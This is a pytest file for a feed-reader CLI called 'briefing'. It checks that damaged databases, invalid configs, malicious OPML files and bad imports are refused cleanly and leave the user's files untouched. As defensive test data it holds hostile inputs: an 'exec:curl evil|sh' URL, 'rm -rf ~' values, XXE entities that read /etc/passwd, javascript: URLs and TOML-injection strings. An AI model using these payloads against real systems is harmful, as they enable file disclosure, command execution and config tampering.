"""Files briefing did not write, or that the user got wrong (issue 5, points 7
and 8), through the real CLI in a subprocess.

- A store from a newer briefing, a file that is not SQLite, someone else's
  SQLite database, a store cut in half, a store whose pages are garbage: every
  command says so in one line naming the file and how to start fresh
  (`--cache NEW_FILE`), exits non-zero, and leaves the file's bytes (and its
  folder) exactly as they were.
- A config with a TOML error, a wrong type, an unknown key, a non-http URL, a
  duplicate feed; an OPML file that is not OPML, too big, binary, or carries a
  non-http URL; an import of a binary, empty, huge or missing file: one line
  naming the file and what is wrong, a non-zero exit, and nothing changed (the
  config's bytes, the store's bytes and articles).
- `opml import` edits the config only by appending feeds, and what it appends
  cannot change anything else in it, whatever the OPML's names say.

(tests/test_config.py, tests/test_cli_import_export.py, tests/test_store.py and
tests/test_refresh_cli.py already cover single cases of these; this file adds
the combinations they do not.)
"""

from __future__ import annotations

import os
import random
import shutil
import sqlite3
import tomllib
from pathlib import Path

import pytest

from briefing.model import ParsedArticle
from briefing.store.database import SCHEMA_VERSION, Store
from tests.helpers.hostile import STORY, run_measured, write_story_config

ARTICLE = "Ankara hosts Damascus\n\nSyria and Türkiye discuss a defense pact in Ankara.\n"


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def one_line_error(done, *must_contain: str) -> str:
    """The run failed with exactly one line on stderr, naming what it must."""
    assert done.returncode != 0, done.out
    assert "Traceback" not in done.err, done.err[-2000:]
    lines = done.err.strip().splitlines()
    assert len(lines) == 1, done.err[-2000:]
    assert lines[0].startswith("briefing: error: "), lines[0]
    for needle in must_contain:
        assert needle in lines[0], (needle, lines[0])
    return lines[0]


# -- 7. stores that are not ours, damaged, or newer ---------------------------------------------------


@pytest.fixture(scope="module")
def good_store_bytes(tmp_path_factory) -> bytes:
    """A real store of 300 articles over many pages, checkpointed into one file."""
    path = tmp_path_factory.mktemp("template") / "store.db"
    with Store(path) as store:
        store.upsert_articles(
            [
                ParsedArticle(
                    key=f"k{i}",
                    title=f"Syria report {i}",
                    source="Outlet",
                    link=f"https://example.invalid/{i}",
                    published=None,
                    text="Syria and Türkiye discuss a defense pact. " * 40,
                )
                for i in range(300)
            ],
            "Feed",
        )
    data = path.read_bytes()
    assert not path.with_name("store.db-wal").exists()
    assert len(data) > 100_000
    return data


def _page_size(data: bytes) -> int:
    size = int.from_bytes(data[16:18], "big")
    return 65536 if size == 1 else size


def _garbage(length: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(length)


def make_bad_store(kind: str, good: bytes, path: Path) -> None:
    if kind == "newer-version":
        path.write_bytes(good)
        with sqlite3.connect(path) as db:
            db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
        db.close()
    elif kind == "not-sqlite":
        path.write_bytes(b"These are my notes, not a database.\n" * 50)
    elif kind == "other-sqlite":
        with sqlite3.connect(path) as db:
            db.execute("CREATE TABLE recipes (name TEXT, steps TEXT)")
            db.execute("INSERT INTO recipes VALUES ('bread', 'flour, water, salt')")
        db.close()
    elif kind == "cut-in-half":
        path.write_bytes(good[: len(good) // 2])
    elif kind == "garbage-after-header":
        path.write_bytes(good[:100] + _garbage(len(good) - 100, 1))
    elif kind == "garbage-pages":
        page = _page_size(good)
        path.write_bytes(good[:page] + _garbage(len(good) - page, 2))
    else:
        raise AssertionError(kind)


COMMANDS = {
    "dashboard": [],
    "export": ["export", "--format", "json"],
    "refresh": ["refresh"],
    "feeds": ["feeds"],
    "import": ["import", "article.txt"],
    "prune": ["prune", "--older-than", "90d"],
}


def _store_case(kind: str, command: str):
    return pytest.param(kind, command, id=f"{kind}-{command}")


# Every command meets a newer store; every other kind of bad store meets the
# dashboard, a reader (export) and a writer (refresh). All open the store the same way.
STORE_CASES = [_store_case("newer-version", command) for command in COMMANDS] + [
    _store_case(kind, command)
    for kind in ("not-sqlite", "other-sqlite", "cut-in-half", "garbage-after-header", "garbage-pages")
    for command in ("dashboard", "export", "refresh")
]


@pytest.mark.parametrize(("kind", "command"), STORE_CASES)
def test_a_store_briefing_cannot_use_is_refused_in_one_line_and_left_as_it_was(
    kind, command, tmp_path, good_store_bytes
):
    write_story_config(tmp_path / "feeds.toml", [])
    (tmp_path / "article.txt").write_text(ARTICLE)
    store = tmp_path / "store.db"
    make_bad_store(kind, good_store_bytes, store)
    before = snapshot(tmp_path)
    done = run_measured(
        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(store), *COMMANDS[command]], tmp_path, timeout=30
    )
    line = one_line_error(done, str(store), "--cache NEW_FILE")
    assert done.stdout == b""
    if kind == "newer-version":
        assert "newer briefing" in line
    assert snapshot(tmp_path) == before  # the file's bytes, and no -wal, -shm or temp file beside it


# -- 8. configs the user got wrong ----------------------------------------------------------------------

FEED = '[[feeds]]\nname = "A"\nurl = "https://a.example/rss"\n'
BAD_CONFIGS = {
    # name: (config text, what the one line must say)
    "toml-syntax": (STORY + '[[feeds]\nname = "A"\n', "TOML syntax error"),
    "timeout-string": (STORY + '[settings]\ntimeout = "fast"\n', "settings.timeout: must be a positive number"),
    "max-bytes-float": (STORY + "[settings]\nmax_bytes = 1.5\n", "settings.max_bytes: must be a positive number"),
    "connections-bool": (STORY + "[settings]\nmax_connections = true\n", "settings.max_connections"),
    "settings-unknown": (STORY + "[settings]\nretries = 3\n", "settings.retries: unknown key"),
    "settings-not-table": (STORY.replace("[story]", 'settings = "fast"\n[story]'), "settings: must be a table"),
    "enabled-string": (STORY + FEED + 'enabled = "yes"\n', "feeds[0].enabled: must be true or false"),
    "name-integer": (
        STORY + '[[feeds]]\nname = 3\nurl = "https://a.example/"\n',
        "feeds[0].name: must be a string, not an integer",
    ),
    "feeds-a-string": (
        STORY.replace("[story]", 'feeds = "https://a.example/rss"\n[story]'),
        "feeds: must be an array of tables",
    ),
    "aliases-string": (
        STORY + '[[story.actors]]\nname = "B"\naliases = "Bee"\n',
        "story.actors[1].aliases: must be a list of strings",
    ),
    "file-url": (STORY + '[[feeds]]\nname = "A"\nurl = "file:///etc/passwd"\n', "scheme 'file' is not allowed"),
    "javascript-url": (
        STORY + '[[feeds]]\nname = "A"\nurl = "javascript:alert(1)"\n',
        "scheme 'javascript' is not allowed",
    ),
    "duplicate-by-case": (
        STORY + FEED + '[[feeds]]\nname = "a"\nurl = "https://b.example/rss"\n',
        "duplicate feed name 'a'",
    ),
    "feed-unknown-key": (STORY + FEED + 'exec = "rm -rf ~"\n', "feeds[0].exec: unknown key"),
    "not-utf8": (None, "not UTF-8"),
}


def _write_config(path: Path, name: str) -> None:
    text = BAD_CONFIGS[name][0]
    if text is None:
        path.write_bytes(STORY.encode() + b'[[feeds]]\nname = "Caf\xe9"\nurl = "https://a.example/"\n')
    else:
        path.write_text(text, encoding="utf-8")


@pytest.fixture
def filled_store(tmp_path) -> Path:
    store = tmp_path / "store.db"
    with Store(store) as opened:
        opened.upsert_articles(
            [
                ParsedArticle(
                    key="k1",
                    title="Syria report",
                    source="Outlet",
                    link="https://example.invalid/1",
                    published=None,
                    text="Syria and Türkiye discuss a defense pact.",
                )
            ],
            "A",
        )
    return store


def _opml_file(folder: Path) -> Path:
    path = folder / "subs.opml"
    path.write_text(
        '<?xml version="1.0"?><opml version="2.0"><body>'
        '<outline text="New" xmlUrl="https://new.example/rss"/></body></opml>'
    )
    return path


ALL_COMMANDS = {
    "refresh": ["refresh"],
    "feeds": ["feeds"],
    "export": ["export", "--format", "md"],
    "import": ["import", "article.txt"],
    "prune": ["prune", "--older-than", "90d"],
    "opml-import": ["opml", "import", "subs.opml"],
    "opml-export": ["opml", "export"],
}


def _bad_config_case(name: str, command: str, tmp_path: Path, store: Path):
    config = tmp_path / "feeds.toml"
    _write_config(config, name)
    (tmp_path / "article.txt").write_text(ARTICLE)
    _opml_file(tmp_path)
    before = snapshot(tmp_path)
    done = run_measured(["--config", str(config), "--cache", str(store), *ALL_COMMANDS[command]], tmp_path)
    line = one_line_error(done, f"{config}:", BAD_CONFIGS[name][1])
    assert done.returncode == 2
    assert snapshot(tmp_path) == before, "something was written"
    return line


@pytest.mark.parametrize("name", list(BAD_CONFIGS))
def test_a_bad_config_is_one_line_and_opml_import_changes_nothing_in_it(name, tmp_path, filled_store):
    # `opml import` is the one command that writes the config: it must not, here.
    _bad_config_case(name, "opml-import", tmp_path, filled_store)


@pytest.mark.parametrize("command", list(ALL_COMMANDS))
@pytest.mark.parametrize("name", ["toml-syntax", "enabled-string", "duplicate-by-case"])
def test_every_command_refuses_a_bad_config(name, command, tmp_path, filled_store):
    _bad_config_case(name, command, tmp_path, filled_store)


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "0", "0.0", "-0.5"])
def test_a_timeout_that_is_not_a_positive_finite_number_is_refused(value, tmp_path, filled_store):
    config = tmp_path / "feeds.toml"
    config.write_text(STORY + f"[settings]\ntimeout = {value}\n")
    before = snapshot(tmp_path)
    done = run_measured(["--config", str(config), "--cache", str(filled_store), "refresh"], tmp_path)
    one_line_error(done, f"{config}:", "settings.timeout: must be a positive number")
    assert snapshot(tmp_path) == before


def test_a_feed_url_without_a_host_is_named_as_such(tmp_path, filled_store):
    config = tmp_path / "feeds.toml"
    config.write_text(STORY + '[[feeds]]\nname = "A"\nurl = "https:///feed.xml"\n')
    done = run_measured(["--config", str(config), "--cache", str(filled_store), "feeds"], tmp_path)
    line = one_line_error(done, f"{config}:", "feeds[0].url")
    assert "scheme 'https' is not allowed" not in line
    assert "host" in line


# -- 8. OPML files -----------------------------------------------------------------------------------------


def _opml(*outlines: str) -> bytes:
    return (
        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
        + "".join(outlines)
        + "</body></opml>"
    ).encode()


BAD_OPML = {
    # name: (bytes, or how to make the file; what the line must say)
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, "not an OPML file"),
    "empty": (b"", "not an OPML file"),
    "javascript-url": (_opml('<outline text="Js" xmlUrl="javascript:alert(1)"/>'), "has a javascript: URL"),
    "feed-scheme": (_opml('<outline text="F" xmlUrl="feed://example.com/rss"/>'), "has a feed: URL"),
    "exec-alone": (_opml('<outline text="Run" xmlUrl="exec:curl evil|sh"/>'), "has a exec: URL"),
    "relative-url": (_opml('<outline text="Rel" xmlUrl="/feed.xml"/>'), "a URL that is not absolute"),
    "external-entity": (
        b'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<opml version="2.0"><body><outline text="&x;" xmlUrl="https://a.example/"/>'
        b"</body></opml>",
        "refused",
    ),
    "too-big": ("sparse", "too large for an OPML file"),
    "a-folder": ("folder", "is a directory"),
}


@pytest.mark.parametrize("name", list(BAD_OPML))
def test_a_bad_opml_file_is_one_line_and_changes_nothing(name, tmp_path, filled_store):
    write_story_config(tmp_path / "feeds.toml", [("A", "https://a.example/rss")])
    content, expected = BAD_OPML[name]
    opml = tmp_path / "subs.opml"
    if content == "sparse":
        with opml.open("wb") as handle:
            handle.truncate(11 * 1024 * 1024)
    elif content == "folder":
        opml.mkdir()
    else:
        opml.write_bytes(content)
    before = snapshot(tmp_path)
    done = run_measured(
        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "opml", "import", str(opml)], tmp_path
    )
    one_line_error(done, str(opml), expected)
    assert done.returncode == 2 and done.stdout == b""
    assert snapshot(tmp_path) == before


def test_opml_names_cannot_rewrite_the_config(tmp_path, filled_store):
    """Whatever an OPML title says (quotes, newlines, TOML table headers,
    control characters, markup), it ends up as one feed's name and nothing
    else in the config changes."""
    config = tmp_path / "feeds.toml"
    original = (STORY + "\n# my settings: keep this comment\n[settings]\ntimeout = 7\n\n" + FEED).encode()
    config.write_bytes(original)
    injections = [
        'Evil"\n[settings]\ntimeout = 0.001\n#',
        'Evil2"""\nurl = "file:///etc/passwd"',
        'Evil3 \\" \\u0000 \\ [bold]x[/]',
        "Evil4 &#10;[[feeds]]&#10;name = &quot;X&quot;&#10;url = &quot;https://x.example/&quot;",
        "Evil5 \x9b2J \x85 \u202e [bold]x[/] \x9d52;c;cm0=\x9c",
    ]
    from xml.sax.saxutils import quoteattr

    outlines = [
        f'<outline text={quoteattr(name)} xmlUrl="https://evil{i}.example/rss"/>' for i, name in enumerate(injections)
    ]
    (tmp_path / "subs.opml").write_bytes(_opml(*outlines))
    store_before = filled_store.read_bytes()
    done = run_measured(
        ["--config", str(config), "--cache", str(filled_store), "opml", "import", str(tmp_path / "subs.opml")], tmp_path
    )
    assert done.returncode == 0, done.err
    after = config.read_bytes()
    assert after.startswith(original)
    data = tomllib.loads(after.decode())
    assert data["settings"] == {"timeout": 7}
    assert data["story"] == tomllib.loads(original.decode())["story"]
    feeds = data["feeds"]
    assert [f["url"] for f in feeds] == ["https://a.example/rss"] + [
        f"https://evil{i}.example/rss" for i in range(len(injections))
    ]
    assert all(set(f) == {"name", "url"} for f in feeds)
    for feed in feeds[1:]:
        assert "\n" not in feed["name"] and "\x1b" not in feed["name"] and "\u202e" not in feed["name"]
    assert feeds[1]["name"].startswith("Evil")
    # What was appended is a comment and [[feeds]] blocks of a name and a URL: nothing else.
    import re

    for line in after[len(original) :].decode().splitlines():
        assert (
            line == ""
            or line.startswith("# Imported from ")
            or line == "[[feeds]]"
            or re.fullmatch(r'(name|url) = "([^"\\]|\\.)*"', line)
        ), line
    assert filled_store.read_bytes() == store_before  # OPML import never touches the store
    listed = run_measured(["--config", str(config), "--cache", str(filled_store), "feeds"], tmp_path)
    assert listed.returncode == 0, listed.err


def test_opml_import_into_a_broken_config_changes_nothing(tmp_path, filled_store):
    config = tmp_path / "feeds.toml"
    config.write_text(STORY + FEED + 'enabled = "yes"\n')
    _opml_file(tmp_path)
    before = snapshot(tmp_path)
    done = run_measured(
        ["--config", str(config), "--cache", str(filled_store), "opml", "import", "subs.opml"], tmp_path
    )
    one_line_error(done, str(config), "feeds[0].enabled")
    assert snapshot(tmp_path) == before


def test_opml_import_into_a_read_only_folder_fails_cleanly(tmp_path, filled_store):
    if os.geteuid() == 0:
        pytest.skip("root writes to read-only folders")
    folder = tmp_path / "ro"
    folder.mkdir()
    config = write_story_config(folder / "feeds.toml", [])
    _opml_file(tmp_path)
    folder.chmod(0o555)
    try:
        before = config.read_bytes()
        done = run_measured(
            ["--config", str(config), "--cache", str(filled_store), "opml", "import", "subs.opml"], tmp_path
        )
        one_line_error(done, str(config))
        assert config.read_bytes() == before
    finally:
        folder.chmod(0o755)


# -- 8. imports of files that are not articles ---------------------------------------------------------------

BAD_IMPORTS = {
    "huge.txt": ("sparse", "too large to import"),
    "folder.txt": ("folder", "is a directory"),
    "latin1.txt": ("Caf\xe9 in Syria\n\nText.".encode("latin-1"), "not UTF-8"),
    "zeros.json": (b"\x00" * 4096, "binary file"),
    "image.html": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary file"),
    "blank.md": (b"   \n\n\t\n", "the file is empty"),
    "list-of-numbers.json": (b"[1, 2, 3]", "must be a JSON object"),
    "extra-key.json": (b'{"title": "t", "text": "Syria", "exec": "rm -rf ~"}', "unknown key 'exec'"),
    "bad-date.json": (b'{"title": "t", "text": "Syria", "published": "yesterday"}', "not an ISO 8601 date"),
    "html-page.rss": (b"<!doctype html><html><body>Not a feed</body></html>", "not a feed"),
}


@pytest.mark.parametrize("name", list(BAD_IMPORTS))
def test_a_bad_import_is_one_line_and_leaves_the_store_as_it_was(name, tmp_path, filled_store):
    write_story_config(tmp_path / "feeds.toml", [])
    good = tmp_path / "good.txt"
    good.write_text(ARTICLE)
    content, expected = BAD_IMPORTS[name]
    bad = tmp_path / name
    if content == "sparse":
        with bad.open("wb") as handle:
            handle.truncate(21 * 1024 * 1024)  # over the 20 MB limit, made in no time
    elif content == "folder":
        bad.mkdir()
    else:
        bad.write_bytes(content)
    before = snapshot(tmp_path)
    # The good file comes first: it must not be imported either.
    done = run_measured(
        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import", str(good), str(bad)],
        tmp_path,
    )
    one_line_error(done, str(bad), expected)
    assert done.returncode == 2
    assert snapshot(tmp_path) == before
    with sqlite3.connect(filled_store) as db:
        assert [row[0] for row in db.execute("SELECT key FROM articles")] == ["k1"]
    db.close()


def test_an_import_path_that_does_not_exist(tmp_path, filled_store):
    write_story_config(tmp_path / "feeds.toml", [])
    before = snapshot(tmp_path)
    missing = tmp_path / "nowhere" / "gone.txt"
    done = run_measured(
        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import", str(missing)], tmp_path
    )
    one_line_error(done, str(missing), "no such file")
    assert snapshot(tmp_path) == before


def test_an_xml_file_with_external_entities_imports_nothing_from_them(tmp_path, filled_store):
    write_story_config(tmp_path / "feeds.toml", [])
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CANARY-4411\n")
    evil = tmp_path / "evil.xml"
    evil.write_bytes(
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY s SYSTEM "file://{secret}">]>'
        '<rss version="2.0"><channel><title>t</title><item><title>Syria &s;</title>'
        "<description>Syria and Türkiye &s;</description></item></channel></rss>".encode()
    )
    done = run_measured(
        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import", str(evil)], tmp_path
    )
    assert "Traceback" not in done.err
    with sqlite3.connect(filled_store) as db:
        texts = [
            value for row in db.execute("SELECT title, text, source, author FROM articles") for value in row if value
        ]
    db.close()
    assert not any("SECRET-CANARY" in text for text in texts)


def test_the_store_is_never_replaced_by_a_copy(tmp_path, filled_store):
    """A refused command leaves even the inode alone (no write-and-rename)."""
    write_story_config(tmp_path / "feeds.toml", [])
    inode = filled_store.stat().st_ino
    shutil.copy(filled_store, tmp_path / "copy.db")
    (tmp_path / "bad.json").write_bytes(b"{not json")
    run_measured(
        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import", str(tmp_path / "bad.json")],
        tmp_path,
    )
    assert filled_store.stat().st_ino == inode
    assert filled_store.read_bytes() == (tmp_path / "copy.db").read_bytes()
